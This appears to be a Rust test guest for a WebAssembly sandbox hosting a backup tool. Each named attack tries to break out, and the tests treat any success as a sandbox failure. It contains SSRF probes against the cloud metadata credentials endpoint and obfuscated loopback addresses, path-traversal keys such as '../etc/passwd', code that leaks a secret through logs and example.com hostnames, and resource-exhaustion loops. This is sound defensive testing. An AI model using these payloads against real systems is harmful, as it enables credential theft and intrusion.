//! A hostile guest for the sandbox tests. It implements the same world as the
//! real guest; `job.site` names the attack. When every attempt is refused it
//! returns `backup-error::denied` with what the host answered; if an attempt
//! succeeds it returns a report, which the tests treat as a sandbox escape.

use http_body_util::Empty;
use wstd::http::{Client, Request};

wit_bindgen::generate!({
    world: "backup-guest",
    path: "../../wit",
    with: {
        "wasi:io/streams@0.2.12": wasip2::io::streams,
        "wasi:io/error@0.2.12": wasip2::io::error,
        "wasi:io/poll@0.2.12": wasip2::io::poll,
    },
});

use tableau_backup::backup::types::Status;
use tableau_backup::backup::{events, secrets, store};

struct Hostile;

impl Guest for Hostile {
    fn run(job: Job) -> Result<Report, BackupError> {
        let outcome = match job.site.as_str() {
            "http-other-host" => http_get("http://example.com/"),
            "http-other-port" => http_get(&other_port(&job.server)),
            "http-metadata" => http_get("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            "http-private-name" => http_get(&format!("https://localhost:{}/", port_of(&job.server))),
            "leak-secret" => leak_secret(&job.token_secret_name),
            "secret-other" => secrets::get("aws-secret-access-key")
                .map(|_| ())
                .map_err(|e| format!("{e:?}")),
            "key-escape" => escape_keys(),
            "key-hostile" => hostile_keys(),
            "http-probes" => http_probes(&job.server),
            "http-probes-listed" => http_probes_listed(),
            "http-redirect" => http_redirect(&job.server),
            "write-oversize" => write_oversize(),
            "size-limit" => write_big(4 << 20),
            "upload-flood" => open_uploads(10_000),
            "memory" => hog_memory(),
            "spin" => spin(),
            "flood-stdout" => flood(),
            other => return Err(BackupError::InvalidJob(format!("unknown attack {other}"))),
        };
        match outcome {
            Err(denied) => Err(BackupError::Denied(denied)),
            Ok(()) => Ok(Report {
                status: Status::Complete,
                run_name: job.run_name,
                manifest_key: String::new(),
                counts: vec![],
                bytes: 0,
                failures: 0,
                api_version: "ESCAPED".into(),
            }),
        }
    }

    /// A restore is granted the store read-only: every write must be refused.
    /// `job.site` names the attack, as for `run`.
    fn restore(job: RestoreJob) -> Result<RestoreReport, BackupError> {
        let outcome = match job.site.as_str() {
            "restore-write" => restore_writes(&job.run),
            other => return Err(BackupError::InvalidJob(format!("unknown attack {other}"))),
        };
        match outcome {
            Err(denied) => Err(BackupError::Denied(denied)),
            Ok(()) => Ok(RestoreReport {
                status: Status::Complete,
                run: job.run,
                dry_run: false,
                entries: vec![],
                checklist: vec![],
                api_version: "ESCAPED".into(),
            }),
        }
    }
}

/// Tries to write into the store (its own run folder, an earlier run, a copy):
/// Ok if any write got through.
fn restore_writes(run: &str) -> Result<(), String> {
    let mut refusals = Vec::new();
    for key in ["restored.txt", &format!("{run}/manifest.json"), "../x"] {
        match store::put(key, "text/plain", b"overwritten by a restore") {
            Ok(_) => return Ok(()),
            Err(e) => refusals.push(format!("put {key}: {e:?}")),
        }
        match store::create(key, "text/plain") {
            Ok(upload) => {
                store::Upload::abort(upload);
                return Ok(());
            }
            Err(e) => refusals.push(format!("create {key}: {e:?}")),
        }
    }
    match store::copy(&format!("{run}/manifest.json"), "copy.json") {
        Ok(_) => return Ok(()),
        Err(e) => refusals.push(format!("copy: {e:?}")),
    }
    // Reading stays allowed: the manifest is there to restore from.
    store::open(&format!("{run}/manifest.json")).map_err(|e| format!("open refused: {e:?}"))?;
    Err(refusals.join("; "))
}

fn port_of(server: &str) -> u16 {
    server
        .rsplit(':')
        .next()
        .and_then(|p| p.trim_end_matches('/').parse().ok())
        .unwrap_or(80)
}

fn other_port(server: &str) -> String {
    format!("http://127.0.0.1:{}/", port_of(server).wrapping_add(1))
}

/// Ok if the request got through (an escape), Err with the host's answer if not.
fn http_get(url: &str) -> Result<(), String> {
    wstd::runtime::block_on(async {
        let req = Request::get(url)
            .body(wstd::http::Body::from_http_body(Empty::<bytes::Bytes>::new()))
            .map_err(|e| e.to_string())?;
        match Client::new().send(req).await {
            Ok(resp) => {
                println!("request to {url} got through: {}", resp.status());
                Ok(())
            }
            Err(e) => Err(format!("{url}: {e:?}")),
        }
    })
}

/// Try to smuggle the granted secret out through every path that reaches the
/// host's log, its output or the store, in every encoding: the host must
/// redact or refuse each. Returns the error text with the secret in it.
fn leak_secret(name: &str) -> Result<(), String> {
    let value = secrets::get(name).map_err(|e| format!("{e:?}"))?;
    let forms = [
        value.clone(),
        url_encode(&value),
        json_escape(&value),
        base64(value.as_bytes()),
    ];
    let all = forms.join(" ");
    events::emit(&events::Event::Log((
        events::Level::Error,
        format!("the secret is {value}"),
    )));
    events::emit(&events::Event::Log((
        events::Level::Warn,
        format!("forms: {all}"),
    )));
    for form in &forms {
        let item = events::Item {
            kind: tableau_backup::backup::types::Kind::Workbooks,
            id: form.clone(),
            name: format!("name {form}"),
            key: format!("workbooks/{form}"),
            size: 1,
        };
        events::emit(&events::Event::Stored(item.clone()));
        events::emit(&events::Event::Failed((item, format!("failed because {form}"))));
        println!("stdout: {form}");
        eprintln!("stderr: {form}");
        // A denied secret name, a denied key, an object named after the secret.
        let _ = secrets::get(&format!("not-granted-{form}"));
        let _ = store::put(&format!("../{form}"), "text/plain", b"x");
        match store::put(&format!("workbooks/{form}.txt"), "text/plain", b"x") {
            Ok(info) => println!("stored an object named after the secret: {}", info.key),
            Err(e) => println!("object named after the secret refused: {e:?}"),
        }
        let _ = store::list(&format!("../{form}"));
        let _ = store::open(&format!("../{form}"));
    }
    // Denied outbound authorities and paths carrying the secret.
    let _ = http_get(&format!("http://{}.example.com/", url_encode(&value)));
    let _ = http_get(&format!("http://{}.example.com/", value));
    let _ = http_get(&format!("http://example.com/?token={}", url_encode(&value)));
    Err(format!("the secret is {all}"))
}

fn url_encode(raw: &str) -> String {
    raw.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn json_escape(raw: &str) -> String {
    let mut out = String::new();
    for c in raw.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Keys and prefixes the host must refuse, each answer printed (`answer
/// <label>: <what the host said>`). `manifest.json` is the guest's own and
/// allowed; the host's `started.json` is not.
fn hostile_keys() -> Result<(), String> {
    let long: String = (0..10)
        .map(|i| format!("{i}{}/", "k".repeat(99)))
        .collect::<String>()
        + "x";
    let put_keys = [
        ("backslash", "workbooks\\x.twbx".to_string()),
        ("colon", "workbooks/C:x.twbx".to_string()),
        ("trailing-dot", "workbooks/x.".to_string()),
        ("trailing-dot-dir", "workbooks./x.twbx".to_string()),
        ("started", "started.json".to_string()),
        ("partial", "workbooks/.tbk-partial-0123456789abcdef-9".to_string()),
        ("long", long),
        ("dotdot", "workbooks/../../x".to_string()),
    ];
    let mut escaped = Vec::new();
    for (label, key) in &put_keys {
        match store::put(key, "text/plain", b"pwned") {
            Ok(info) => {
                println!("answer {label}: ACCEPTED as {}", info.key);
                escaped.push(*label);
            }
            Err(e) => println!("answer {label}: {e:?}"),
        }
    }
    // Streaming uploads go through the same check.
    match store::create("workbooks\\y.twbx", "text/plain") {
        Ok(_) => {
            println!("answer create-backslash: ACCEPTED");
            escaped.push("create-backslash");
        }
        Err(e) => println!("answer create-backslash: {e:?}"),
    }
    for (label, prefix) in [
        ("list-dotdot", "../"),
        ("list-inner-dotdot", "x/../"),
        ("list-dotdot-end", "x/.."),
    ] {
        match store::list(prefix) {
            Ok(objects) => {
                println!("answer {label}: ACCEPTED, {} objects", objects.len());
                escaped.push(label);
            }
            Err(e) => println!("answer {label}: {e:?}"),
        }
    }
    for (label, key) in [
        ("open-dotdot", "../etc/passwd"),
        ("open-inner-dotdot", "x/../../../etc/passwd"),
    ] {
        match store::open(key) {
            Ok(_) => {
                println!("answer {label}: ACCEPTED");
                escaped.push(label);
            }
            Err(e) => println!("answer {label}: {e:?}"),
        }
    }
    // Allowed: the guest writes its own manifest (the run then fails, so it is
    // never taken for a finished run's).
    match store::put("manifest.json", "application/json", b"{}") {
        Ok(_) => println!("answer manifest: stored"),
        Err(e) => println!("answer manifest: {e:?}"),
    }
    if escaped.is_empty() {
        Err("every hostile key was refused".into())
    } else {
        Ok(())
    }
}

/// Requests the plain allow-list must refuse: other spellings of loopback,
/// userinfo tricks, IPv6, IPv4-mapped and NAT64 addresses.
fn http_probes(server: &str) -> Result<(), String> {
    let port = port_of(server);
    let urls = [
        format!("http://127.0.0.1:{port}@169.254.169.254/latest/meta-data/"),
        format!("http://user:pw@169.254.169.254:{port}/"),
        format!("http://[::1]:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        "http://[::ffff:169.254.169.254]/".to_string(),
        format!("http://2130706433:{port}/"),
        "http://2130706433/".to_string(),
        format!("http://0177.0.0.1:{port}/"),
        "http://0177.0.0.1/".to_string(),
        "http://[64:ff9b::a00:1]/".to_string(),
        "http://[fd00:ec2::254]/latest/meta-data/".to_string(),
    ];
    probe_all(&urls)
}

/// The same kinds of address, listed in the policy's allow_hosts and over
/// https: the address check after resolution must refuse every one.
fn http_probes_listed() -> Result<(), String> {
    let urls = [
        "https://[::ffff:127.0.0.1]/".to_string(),
        "https://[::ffff:a9fe:a9fe]/".to_string(),
        "https://[64:ff9b::a00:1]/".to_string(),
        "https://[64:ff9b::a9fe:a9fe]/".to_string(),
        "https://[2002:a00:1::]/".to_string(),
        "https://[::a00:1]/".to_string(),
        "https://[fd00:ec2::254]/".to_string(),
        "https://2130706433/".to_string(),
        "https://0177.0.0.1/".to_string(),
    ];
    probe_all(&urls)
}

fn probe_all(urls: &[String]) -> Result<(), String> {
    let mut answers = Vec::new();
    let mut through = false;
    for url in urls {
        match http_get(url) {
            Ok(()) => {
                println!("probe {url}: GOT THROUGH");
                through = true;
            }
            Err(e) => {
                println!("probe {url}: {e}");
                answers.push(e);
            }
        }
    }
    if through {
        Ok(())
    } else {
        Err(answers.join("; "))
    }
}

/// Follow the server's redirect by hand, as a guest that trusted `Location`
/// would: the target is off-policy, so the host must refuse it.
fn http_redirect(server: &str) -> Result<(), String> {
    let location = wstd::runtime::block_on(async {
        let url = format!("{}/redirect", server.trim_end_matches('/'));
        let req = Request::get(url.as_str())
            .body(wstd::http::Body::from_http_body(Empty::<bytes::Bytes>::new()))
            .map_err(|e| e.to_string())?;
        let resp = Client::new()
            .send(req)
            .await
            .map_err(|e| format!("{url}: {e:?}"))?;
        println!("redirect answer: {}", resp.status());
        resp.headers()
            .get("location")
            .and_then(|l| l.to_str().ok())
            .map(str::to_string)
            .ok_or_else(|| format!("no Location in a {} answer", resp.status()))
    })?;
    println!("following the redirect to {location}");
    http_get(&location)
}

/// Write more than `check-write` granted, in one call: the host must trap
/// rather than queue it. Without that bound a guest could queue gigabytes.
fn write_oversize() -> Result<(), String> {
    let upload =
        store::create("workbooks/oversize.bin", "application/octet-stream").map_err(|e| format!("{e:?}"))?;
    let stream = upload.body().map_err(|e| format!("{e:?}"))?;
    let chunk = vec![0x42u8; 8 << 20];
    let mut written = 0usize;
    for _ in 0..16 {
        stream.subscribe().block();
        let permit = stream.check_write().map_err(|e| format!("check-write: {e:?}"))?;
        println!("check-write granted {permit} bytes; writing {}", chunk.len());
        stream
            .write(&chunk)
            .map_err(|e| format!("write refused after {written} bytes: {e:?}"))?;
        written += chunk.len();
    }
    drop(stream);
    match store::Upload::finish(upload) {
        Ok(info) => {
            println!("stored {} bytes past check-write", info.size);
            Ok(())
        }
        Err(e) => Err(format!("finish refused: {e:?}")),
    }
}

/// Every key must be refused; any accepted one is an escape.
fn escape_keys() -> Result<(), String> {
    let long = "k".repeat(10_000);
    let mut answers = Vec::new();
    for key in ["../escape", "/etc/x", long.as_str(), "workbooks/../../x"] {
        match store::put(key, "text/plain", b"pwned") {
            Ok(info) => {
                println!("key {:?} accepted as {}", &key[..key.len().min(40)], info.key);
                return Ok(());
            }
            Err(e) => answers.push(format!("{e:?}")),
        }
    }
    Err(answers.join("; "))
}

/// Write `n` bytes into one object; the host's size limit must stop it.
fn write_big(n: usize) -> Result<(), String> {
    let upload =
        store::create("workbooks/big.bin", "application/octet-stream").map_err(|e| format!("{e:?}"))?;
    let stream = upload.body().map_err(|e| format!("{e:?}"))?;
    let chunk = vec![0x42u8; 4096];
    let mut written = 0;
    while written < n {
        if let Err(e) = stream.blocking_write_and_flush(&chunk) {
            let why = match e {
                wasip2::io::streams::StreamError::LastOperationFailed(err) => err.to_debug_string(),
                wasip2::io::streams::StreamError::Closed => "closed".into(),
            };
            drop(stream);
            store::Upload::abort(upload);
            return Err(format!("write refused after {written} bytes: {why}"));
        }
        written += chunk.len();
    }
    drop(stream);
    match store::Upload::finish(upload) {
        Ok(info) => {
            println!("stored {} bytes", info.size);
            Ok(())
        }
        Err(e) => Err(format!("finish refused: {e:?}")),
    }
}

/// Open uploads without ever finishing them; the host must cap how many.
fn open_uploads(n: usize) -> Result<(), String> {
    let mut held = Vec::new();
    for i in 0..n {
        match store::create(&format!("workbooks/flood-{i}.bin"), "application/octet-stream") {
            Ok(upload) => held.push(upload),
            Err(e) => return Err(format!("upload {i} refused: {e:?}")),
        }
    }
    Ok(())
}

fn hog_memory() -> Result<(), String> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1u8; 16 << 20]);
        if hoard.len() > 10_000 {
            return Ok(());
        }
    }
}

fn spin() -> Result<(), String> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
    }
}

fn flood() -> Result<(), String> {
    let line = "A".repeat(1 << 20);
    for _ in 0..(8 * 1024) {
        println!("{line}");
    }
    Ok(())
}

export!(Hostile);
